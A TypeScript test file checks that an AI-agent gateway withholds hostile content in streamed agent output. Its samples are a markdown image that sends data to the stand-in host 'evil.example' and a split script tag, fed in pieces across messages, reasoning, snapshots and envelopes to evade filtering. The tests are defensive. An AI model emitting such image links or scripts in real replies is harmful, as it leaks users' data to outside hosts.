import { sseFrame } from "@countersign/testkit";
import { afterEach, expect, test } from "vitest";
import { runClient } from "../../testing/client.js";
import { envelope } from "../../testing/envelopes.js";
import { idsOf, inRun } from "../../testing/events.js";
import { OPEN_POLICY, startFixture } from "../../testing/fixture.js";
import type { Fixture } from "../../testing/fixture.js";
import { sseEvents } from "../../testing/transports.js";

let fixture: Fixture | undefined;
afterEach(async () => {
  await fixture?.stop();
  fixture = undefined;
});

const POLICY = `hushspec: "0.1.0"
rules:
  ag_ui: { allow_display_without_capability: true, restricted_classifications: [submit] }
  ag_ui_inbound: { default: allow }
  ag_ui_content: { max_characters: 100 }
`;

async function start(events: readonly object[], policy = POLICY): Promise<string> {
  fixture = await startFixture(
    (request) => ({ pieces: inRun(idsOf(request.body), events).map(sseFrame) }),
    { policy },
  );
  return `${fixture.url}/agents/support`;
}

const said = (messageId: string, text: string): object[] => [
  { type: "TEXT_MESSAGE_START", messageId, role: "assistant" },
  ...text.split("").map((delta) => ({ type: "TEXT_MESSAGE_CONTENT", messageId, delta })),
  { type: "TEXT_MESSAGE_END", messageId },
];
const IMAGE = "See ![x](https://evil.example/?d=1) now";
const answers = ({ messages }: Awaited<ReturnType<typeof runClient>>): unknown[] =>
  messages.filter(({ role }) => role === "assistant").map(({ content }) => content);
const blockedBy = (rule: string): number =>
  fixture?.recorder.drafts.filter((draft) => draft.rule === rule).length ?? 0;

test("an image that arrives in single characters is withheld before its host, and its message ends", async () => {
  const client = await runClient(await start([...said("m1", IMAGE), ...said("m2", "Bye")]));
  expect(answers(client)).toEqual(["See ![x](https", "Bye"]);
  expect(blockedBy("ag_ui_content.images")).toBeGreaterThan(0);
});

test("a message that is opened again continues its text", async () => {
  const [first, second] = ["See ![x](", "https://evil.example/"];
  const client = await runClient(await start([...said("m1", first), ...said("m1", second)]));
  expect(answers(client)).toEqual(["See ![x](https"]);
});

test("a client that requests envelopes cannot join the texts of several messages to an element or an image", async () => {
  const reasoning = (messageId: string, delta: string): object[] => [
    { type: "REASONING_START", messageId },
    { type: "REASONING_MESSAGE_START", messageId, role: "reasoning" },
    { type: "REASONING_MESSAGE_CONTENT", messageId, delta },
    { type: "REASONING_MESSAGE_END", messageId },
    { type: "REASONING_END", messageId },
  ];
  const one = (messageId: string, delta: string): object[] => [
    { type: "TEXT_MESSAGE_START", messageId, role: "assistant" },
    { type: "TEXT_MESSAGE_CONTENT", messageId, delta },
    { type: "TEXT_MESSAGE_END", messageId },
  ];
  const url = await start([
    ...one("m1", "Hello <scr"),
    ...one("m2", "ipt>x</script>"),
    ...one("m3", "and ![x](htt"),
    ...reasoning("r1", "ps://evil.example/?d=1)"),
    ...one("m4", "a".repeat(90)),
    ...one("m5", "b".repeat(90)),
  ]);
  const body = JSON.stringify({ threadId: "t", runId: "r", protocolVersion: "1.0", messages: [] });
  const response = await fetch(`${url}?dialect=envelope`, { method: "POST", body });
  const texts = sseEvents(await response.text()).flatMap((event) => {
    const payload = event["payload"] as { text?: string; delta?: string } | undefined;
    return payload?.text ?? payload?.delta ?? [];
  });
  expect(texts).toEqual(["Hello <scr", "and ![x](htt", "a".repeat(90), "b".repeat(90)]);
  expect(blockedBy("ag_ui_content.markup")).toBeGreaterThan(0);
});

test("a message list delivers no withheld text, neither again nor first", async () => {
  const messages = [
    { id: "m1", role: "assistant", content: IMAGE },
    { id: "m2", role: "assistant", content: "fine" },
  ];
  const client = await runClient(await start([{ type: "MESSAGES_SNAPSHOT", messages }]));
  expect(answers(client)).toContain("fine");
  expect(JSON.stringify(client.messages)).not.toContain("evil");
});

test("after a message list no text is appended to an earlier message: the gateway does not know the client's text", async () => {
  const list = (...messages: object[]): object => ({ type: "MESSAGES_SNAPSHOT", messages });
  const saying = (id: string, content: string): object => ({ id, role: "assistant", content });
  const image = said("m1", "![x](https://evil.example/)");
  const half = list(saying("m1", "See ![x]("));
  for (const [events, expected] of [
    [[half, ...said("m1", "https://evil.example/)")], ["See ![x]("]],
    [[...said("m1", "See"), half, ...said("m1", "https://evil.example/)")], ["See ![x]("]],
    // Under another id: the client drops the first message, and with it the fence that made code of the rest.
    [[...said("m1", "```\n"), list(saying("m2", "```\n")), ...image], ["```\n"]],
    // The start of a text is delivered; a list comes before its end.
    [
      [
        { type: "TEXT_MESSAGE_START", messageId: "m1", role: "assistant" },
        { type: "TEXT_MESSAGE_CONTENT", messageId: "m1", delta: "```\n" },
        list(saying("m1", "```\n"), saying("m3", "fine")),
        { type: "TEXT_MESSAGE_CONTENT", messageId: "m1", delta: "![x](https://evil.example/)" },
        { type: "TEXT_MESSAGE_END", messageId: "m1" },
      ],
      ["```\n", "fine"],
    ],
  ] as const) {
    const client = await runClient(await start([...events]));
    expect(answers(client)).toEqual(expected);
    expect(blockedBy("gateway/reopened")).toBeGreaterThan(0);
    await fixture?.stop();
  }
});

test("the client keeps the first of two echoes, so no text is appended to either", async () => {
  fixture = await startFixture(
    ({ body }) => {
      const { threadId, runId } = idsOf(body);
      const run = (id: string, content: string, ...events: object[]): object[] => {
        const messages = [{ id: "m1", role: "assistant", content }];
        const input = { threadId, runId: id, messages };
        const ids = { threadId, runId: id };
        return [
          { type: "RUN_STARTED", ...ids, input },
          ...events,
          { type: "RUN_FINISHED", ...ids },
        ];
      };
      const events = [
        ...run(runId, "!["),
        ...run("again", "```\n", ...said("m1", "](https://evil.example/x)")),
      ];
      return { pieces: events.map(sseFrame) };
    },
    { policy: POLICY },
  );
  const client = await runClient(`${fixture.url}/agents/support`);
  expect(answers(client)).toEqual(["!["]);
  expect(blockedBy("gateway/reopened")).toBeGreaterThan(0);
});

test("the text of several envelopes is read as one", async () => {
  const [first, second] = ["See ![x](htt", "ps://evil.example/"].map((text, index) =>
    envelope(`evt_${index}`, { payload: { text } }),
  );
  fixture = await startFixture(
    () => ({ pieces: [first, second].map((one) => sseFrame(one ?? {})) }),
    {
      policy: POLICY,
      target: { transport: "get-sse", dialect: "chio" },
    },
  );
  const body = await (await fetch(`${fixture.url}/ag-ui/stream?session=s`)).text();
  expect(sseEvents(body)).toEqual([first]);
  expect(blockedBy("ag_ui_content.images")).toBe(1);
});

test("no string of an envelope of any type has an image past the policy", async () => {
  const policy = OPEN_POLICY + POLICY.slice(POLICY.indexOf("  ag_ui_content"));
  for (const [type, payload] of [
    ["error", { message: IMAGE }],
    ["text_stream", { text: "fine", title: IMAGE }],
    ["lifecycle", { action: "open", fields: [{ label: IMAGE }] }],
    [{ custom: "vendor.card" }, { lines: ["fine", IMAGE] }],
  ] as const) {
    const evil = envelope("evt_1", { event_type: type, classification: "submit", payload });
    fixture = await startFixture(() => ({ pieces: [sseFrame(evil)] }), {
      policy,
      target: { transport: "get-sse", dialect: "chio" },
    });
    const body = await (await fetch(`${fixture.url}/ag-ui/stream?session=s`)).text();
    expect(sseEvents(body)).toEqual([]);
    expect(blockedBy("ag_ui_content.images")).toBe(1);
    await fixture.stop();
    fixture = undefined;
  }
});

test("a message at the limit passes, and one more character does not", async () => {
  const client = await runClient(await start(said("m1", "x".repeat(101))));
  expect(answers(client)).toEqual(["x".repeat(100)]);
});

test("a policy that observes delivers and records everything", async () => {
  const client = await runClient(await start(said("m1", IMAGE), `mode: observe\n${POLICY}`));
  expect(answers(client)).toEqual([IMAGE]);
});

const READS = `${POLICY.trimEnd().replace("{ max_characters: 100 }", "{ read: [text, tool_results, activities] }")}
  ag_ui_classify:
    activities: [{ match: "*", classification: display }]
`;
const CALL = [
  { type: "TOOL_CALL_START", toolCallId: "c1", toolCallName: "search" },
  { type: "TOOL_CALL_END", toolCallId: "c1" },
];

test("results and activities are read if the policy asks for it, and a blocked one is withheld whole", async () => {
  const events = [
    ...CALL,
    { type: "TOOL_CALL_RESULT", messageId: "r1", toolCallId: "c1", content: IMAGE },
    {
      type: "ACTIVITY_SNAPSHOT",
      messageId: "a1",
      activityType: "card",
      content: { lines: ["fine", IMAGE] },
    },
    ...said("m1", "Bye"),
  ];
  const client = await runClient(await start(events, READS));
  expect(answers(client)).toContain("Bye");
  expect(JSON.stringify(client.messages)).not.toContain("evil");
  expect(blockedBy("ag_ui_content.images")).toBe(2);
  await fixture?.stop();
  const unread = READS.replace("text, tool_results, activities", "text");
  expect(JSON.stringify((await runClient(await start(events, unread))).messages)).toContain("evil");
});

test("a message list delivers no blocked result, neither as its content nor as its error", async () => {
  const listed = (answer: object): object => ({
    type: "MESSAGES_SNAPSHOT",
    messages: [
      {
        id: "m1",
        role: "assistant",
        toolCalls: [{ id: "c1", type: "function", function: { name: "search", arguments: "{}" } }],
      },
      { id: "r1", role: "tool", toolCallId: "c1", ...answer },
      { id: "m2", role: "assistant", content: "fine" },
    ],
  });
  for (const answer of [{ content: IMAGE }, { content: "x", error: IMAGE }]) {
    const client = await runClient(await start([listed(answer)], READS));
    expect(answers(client)).toContain("fine");
    expect(JSON.stringify(client.messages)).not.toContain("evil");
    await fixture?.stop();
  }
});
